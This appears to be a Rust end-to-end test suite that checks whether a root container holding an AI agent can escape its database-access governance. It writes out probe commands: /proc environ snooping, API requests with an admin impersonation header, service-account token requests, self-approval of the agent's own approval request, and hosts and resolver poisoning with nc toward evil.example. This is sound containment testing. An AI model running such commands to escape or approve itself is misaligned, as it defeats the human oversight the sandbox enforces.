//! Ways out that only a container of a real kubelet can try, with the user that may do most: root, without capabilities.
//! Oracles: listeners on this machine and on the node, the API server's audit log, the database's own log.

use std::collections::BTreeSet;
use std::fs;
use std::time::Duration;

use e2e::cluster::Cluster;
use e2e::wait;
use e2e::world::Policy;
use serde_json::{Value, json};

use super::agent::{START, governed, pod, run};
use super::asked::Asked;
use super::database::{AGENT, World};
use super::inside::sh;
use super::node::{kill_sidecar, nonce, sidecar};
use super::sink::{HERE, Sink};

/// Each way to the API server, by address and by name.
const API: [(&str, u16); 3] = [("10.96.0.1", 443), ("10.199.0.2", 6443), ("kubernetes.default.svc.cluster.local", 443)];
const AUDIT: &str = "/var/lib/agentaccess-cluster/agentaccess/log/audit";

/// A pod whose containers are root inside.
fn root(mut pod: Value) -> Value {
    for container in pod["spec"]["containers"].as_array_mut().unwrap() {
        container["securityContext"]["runAsUser"] = json!(0);
        container["securityContext"]["runAsNonRoot"] = json!(false);
    }
    pod
}

/// A virtual machine's way to its host: nft does not see it.
#[test]
fn no_vsock_socket_is_opened() {
    let cluster = Cluster::connect().unwrap();
    let (namespace, free) = (governed(&cluster), cluster.namespace(&json!({})).unwrap());
    let mut unconfined = root(pod("free"));
    unconfined["spec"]["securityContext"]["seccompProfile"]["type"] = json!("Unconfined");
    run(&cluster, &free.name, &unconfined);
    let opened = sh(&cluster, &free.name, "free", "vsock");
    assert!(opened.text.contains("opened"), "this kernel has none, so nothing is proven: {}", opened.text);

    run(&cluster, &namespace.name, &root(pod("agent")));
    let refused = sh(&cluster, &namespace.name, "agent", "vsock");
    refused.accepted("the program itself").unwrap();
    assert!(!refused.text.contains("opened") && refused.text.lines().count() == 3, "{}", refused.text);
    unconfined["metadata"]["name"] = json!("unconfined");
    let make = ["create", "-n", &namespace.name, "-f", "-"];
    cluster.run(&make, Some(&unconfined)).unwrap().refused("without the profile", "seccompProfile").unwrap();
}

#[test]
fn nothing_of_the_sidecar_is_seen_from_the_agent() {
    let cluster = Cluster::connect().unwrap();
    let namespace = governed(&cluster);
    let name = namespace.name.as_str();
    run(&cluster, name, &root(pod("agent")));
    let pid = sidecar(&nonce(&cluster, name, "agent"));
    // As the kernel has it: a user of its own, no capability, no way to get any, filtered calls.
    let status = fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    let field = |name: &str| {
        let line = status.lines().find_map(|line| line.strip_prefix(name)).unwrap();
        line.trim_start_matches(':').split_whitespace().next().unwrap().to_owned()
    };
    let none = "0000000000000000";
    assert_eq!(["CapEff", "CapPrm", "CapBnd", "CapAmb"].map(field), [none; 4], "{status}");
    assert_eq!(["NoNewPrivs", "Seccomp"].map(field), ["1", "2"], "{status}");
    assert!(field("Uid").parse::<u32>().unwrap() >= 1_000_000_000, "{status}");

    // All that a container can read of any process, and names of sockets that lie in no folder.
    let look = "for p in /proc/[0-9]*; do echo \"$(tr '\\0' ' ' <$p/cmdline) $(tr '\\0' ' ' <$p/environ) \
                $(ls -l $p/root $p/cwd $p/exe $p/fd)\"; done 2>/dev/null; cat /proc/net/unix; \
                ls /proc/1/root/run /proc/1/root/var/lib; echo looked";
    let blind = |text: &str, what: &str| {
        assert!(text.contains("sleep 3600") && text.contains("looked"), "{what} sees its own: {text}");
        for trace in ["agentaccess-sidecar", "AGENTACCESS_", "/run/agentaccess", "lib/agentaccess", " @"] {
            assert!(!text.contains(trace), "{what} sees {trace}: {text}");
        }
    };
    blind(&sh(&cluster, name, "agent", look).text, "the agent");
    sh(&cluster, name, "agent", &format!("ls /proc/{pid}/")).refused("the sidecar's number", "No such file").unwrap();

    // Somebody who looks at the agent's processes, and no further.
    let debug = ["debug", "-n", name, "agent", "--image=localhost/busybox:1", "--image-pull-policy=Never"];
    let words = ["--profile=restricted", "--container=debugger", "--target=agent", "--", "sh", "-c", look];
    cluster.run(&[&debug[..], &words].concat(), None).unwrap().accepted("a debug container").unwrap();
    let logs = ["logs", "-n", name, "agent", "-c", "debugger"];
    let said = || cluster.run(&logs, None).unwrap().text;
    wait::eventually("the debug container has looked", START, || said().contains("looked")).unwrap();
    blind(&said(), "a debug container");
}

/// Every call of this mark that the audit log has.
fn audited(mark: &str) -> BTreeSet<String> {
    let (log, mark) = (fs::read_to_string(AUDIT).unwrap(), format!("mark={mark}\""));
    let calls = log.lines().filter(|line| line.contains(&mark));
    // A call of some length has a line for each of its stages.
    calls.map(|line| serde_json::from_str::<Value>(line).unwrap()["auditID"].to_string()).collect()
}

/// What an agent would ask the cloud and the API server for, to be somebody else or to say yes to itself, whatever its
/// policy lets it do. No target declares either.
#[test]
fn metadata_and_the_api_server_hear_nothing_from_an_agent() {
    let everything = "{name: everything, action: Allow, verbs: [Select, Insert, Update], relations: ['public.*']}";
    let world = World::new(&Policy::default().rule(everything));
    let (mut asked, sink) = (Asked { psql: world.psql(), world }, Sink::metadata());
    let held = asked.hold(1);
    let (cluster, own) = (asked.world.cluster.clone(), asked.world.namespace.name.clone());
    let free = cluster.namespace(&json!({})).unwrap();
    let account = "/api/v1/namespaces/default/serviceaccounts/default/token";
    let requests = format!("/apis/agentaccess.dev/v1alpha1/namespaces/{own}/approvalrequests");
    let (request, exec) = (format!("{requests}/{}", held.name), format!("/api/v1/namespaces/{own}/pods/{AGENT}/exec"));
    let approve = r#"{"metadata": {"annotations": {"agentaccess.dev/decision": "approve"}}}"#;
    let calls = [
        ("GET", "/version", "Accept: */*", ""),
        ("GET", "/version", "Impersonate-User: system:admin", ""),
        ("POST", account, "Accept: */*", "{}"),
        ("POST", &requests, "Accept: */*", "{}"),
        ("PATCH", &request, "Content-Type: application/merge-patch+json", approve),
        ("POST", &exec, "Accept: */*", ""),
    ];
    let script = |mark: &str| {
        let mut all = format!("{}; ", sink.script());
        for (host, port) in API {
            for (verb, path, header, body) in calls {
                let head = format!("{verb} {path}?mark={mark} HTTP/1.1\\r\\nHost: {host}\\r\\n{header}");
                let length = format!("Content-Length: {}", body.len());
                let request = format!("{head}\\r\\n{length}\\r\\nConnection: close\\r\\n\\r\\n{body}");
                all += &format!("printf '{request}' | timeout 3 openssl s_client -quiet -connect {host}:{port}; ");
            }
        }
        all + "true"
    };
    run(&cluster, &own, &root(asked.world.worker("worker", "sleep 3600")));
    sh(&cluster, &own, "worker", &script(&own)).accepted("the probe").unwrap();
    assert_eq!((sink.seen(), audited(&own)), ((false, false), BTreeSet::new()));
    asked.phase(&held, "Pending");
    assert_eq!(asked.deleted(), 0);

    run(&cluster, &free.name, &root(pod("free")));
    sh(&cluster, &free.name, "free", &script(&free.name)).accepted("the probe").unwrap();
    wait::eventually("both oracles hear a pod that is not governed", Duration::from_secs(5), || {
        sink.seen() == (true, true) && audited(&free.name).len() == API.len() * calls.len()
    })
    .unwrap();
}

/// A name that is allowed, at an address that the agent chose: by its hosts file, by its client, by hand.
#[test]
fn names_and_addresses_of_the_agents_own_lead_nowhere() {
    let world = World::new(&Policy::default());
    let sink = Sink::open();
    let worker = root(world.worker("worker", "sleep 3600"));
    run(&world.cluster, &world.namespace.name, &worker);
    let inside = |script: &str| sh(&world.cluster, &world.namespace.name, "worker", script);
    let connections = || world.server.log_text().matches("connection received").count();
    let select = "psql -XAtqc 'SELECT id FROM orders WHERE id = 1'";
    let asked = inside(select);
    asked.accepted("by its name").unwrap();
    assert_eq!(asked.text, "1\n");

    let before = connections();
    let (port, trap) = (world.server.port(), sink.port);
    let attempts = [
        // The name in SNI and in the verification, the address by hand.
        format!("PGHOSTADDR={HERE} {select}"),
        format!("PGHOSTADDR={HERE} PGPORT={trap} {select}"),
        format!("PGHOSTADDR={HERE} PGSSLMODE=disable {select}"),
        // The address alone, and the target's own address with another port.
        format!("PGHOST={HERE} {select}"),
        format!("PGPORT={trap} {select}"),
        format!("echo x | nc -w 2 {HERE} {port}"),
    ];
    for attempt in &attempts {
        let answer = inside(&format!("timeout 10 sh -c \"{}\"; echo ended", attempt.replace('"', "\\\"")));
        assert!(answer.text.contains("ended") && !answer.text.contains("1\n"), "{attempt}: {}", answer.text);
    }
    let edited = inside(&format!("echo \"{HERE} $PGHOST evil.example\" >>/etc/hosts && tail -n 1 /etc/hosts"));
    assert!(edited.text.starts_with(HERE), "root may write the file: {}", edited.text);
    for attempt in [
        select.to_owned(),
        format!("PGPORT={trap} {select}"),
        format!("PGSSLMODE=disable {select}"),
        format!("echo x | nc -w 2 evil.example {trap}"),
    ] {
        let answer = inside(&format!("timeout 10 sh -c \"{}\"; echo ended", attempt.replace('"', "\\\"")));
        assert!(answer.text.contains("ended") && !answer.text.contains("1\n"), "{attempt}: {}", answer.text);
    }
    assert_eq!((sink.seen(), connections()), ((false, false), before));
    inside("sed '$d' /etc/hosts >/tmp/hosts && cat /tmp/hosts >/etc/hosts").accepted("undone").unwrap();
    assert_eq!(inside(select).text, "1\n", "and nothing was broken by all of it");
}

/// The pod's files of names are one each for all containers, and root in any of them writes there without a capability.
/// The sidecar has its own, also when it starts anew.
#[test]
fn files_of_names_that_the_agent_rewrites_say_nothing_to_the_sidecar() {
    let world = World::new(&Policy::default());
    let space = world.namespace.name.as_str();
    run(&world.cluster, space, &root(world.worker("worker", "sleep 3600")));
    let inside = |script: &str| sh(&world.cluster, space, "worker", script);
    let found = inside("nslookup $PGHOST | grep -o '198[.]18[.][0-9.]*' | tail -n 1");
    let address = found.text.trim().to_owned();
    assert!(address.starts_with("198.18."), "{address}");
    // Nobody takes calls for the target there, and nobody answers for names.
    let poison = "echo \"10.199.0.2 $PGHOST agentaccess-operator.agentaccess-system.svc\" >/etc/hosts; \
         printf 'nameserver 192.0.2.1\\nsearch stolen.example\\noptions ndots:9 timeout:1\\n' >/etc/resolv.conf; \
         cat /etc/hosts /etc/resolv.conf";
    let poisoned = inside(poison).text;
    assert!(poisoned.starts_with("10.199.0.2 ") && poisoned.contains("nameserver 192.0.2.1"), "{poisoned}");
    let select = format!("PGHOSTADDR={address} timeout 20 psql -XAtqc 'SELECT id FROM orders WHERE id = 1'");
    assert_eq!(inside(&select).text, "1\n", "the target is where it was");

    let files = |mark: &str| {
        let pid = sidecar(mark);
        ["hosts", "resolv.conf"].map(|name| fs::read_to_string(format!("/proc/{pid}/root/etc/{name}")).unwrap())
    };
    let nonce = nonce(&world.cluster, space, "worker");
    let before = files(&nonce);
    kill_sidecar(&nonce);
    wait::eventually("the sidecar is back", START, || inside(&select).text == "1\n").unwrap();
    assert_eq!(files(&nonce), before, "also when it starts anew");
    let [hosts, resolver] = before;
    assert!(hosts.contains("localhost") && !hosts.contains("10.199.0.2"), "{hosts}");
    assert!(resolver.contains("nameserver 10.96.0.10") && !resolver.contains("stolen"), "{resolver}");
}

/// The kubelet writes the pod's name for itself into its hosts file, and whoever makes the pod chooses that name.
#[test]
fn a_pod_that_is_called_like_a_target_is_not_taken_for_it() {
    let world = World::new(&Policy::default());
    let space = world.namespace.name.as_str();
    let script = "while :; do nc -l -p $PGPORT >>/tmp/heard </dev/null; echo somebody >>/tmp/heard; done";
    let mut worker = world.worker("worker", script);
    let env = worker["spec"]["containers"][0]["env"].as_array().unwrap();
    let target = env.iter().find(|one| one["name"] == "PGHOST").unwrap()["value"].clone();
    worker["spec"]["hostnameOverride"] = target.clone();
    run(&world.cluster, space, &worker);
    let inside = |script: &str| sh(&world.cluster, space, "worker", script);
    // A server that does not know the field yet drops it, and then there is nothing to be proven.
    let made = world.cluster.get(&["pod", "-n", space, "worker"]).unwrap();
    let hosts = inside("cat /etc/hosts").text;
    let known = made["spec"]["hostnameOverride"] == target;
    assert_eq!(known, hosts.contains(target.as_str().unwrap()), "{hosts}");
    let found = inside(&format!("nslookup {} | grep -o '198[.]18[.][0-9.]*' | tail -n 1", target.as_str().unwrap()));
    let address = found.text.trim().to_owned();
    assert!(address.starts_with("198.18."), "{address}");
    let select = format!("PGHOSTADDR={address} timeout 20 psql -XAtqc 'SELECT id FROM orders WHERE id = 1'");
    assert_eq!(inside(&select).text, "1\n", "the target is where it was");
    assert_eq!(inside("cat /tmp/heard").text, "", "nobody called the pod itself");
    // It would have been heard.
    assert!(inside("nc -w 1 127.0.0.1 $PGPORT </dev/null; sleep 1; cat /tmp/heard").text.contains("somebody"));
}
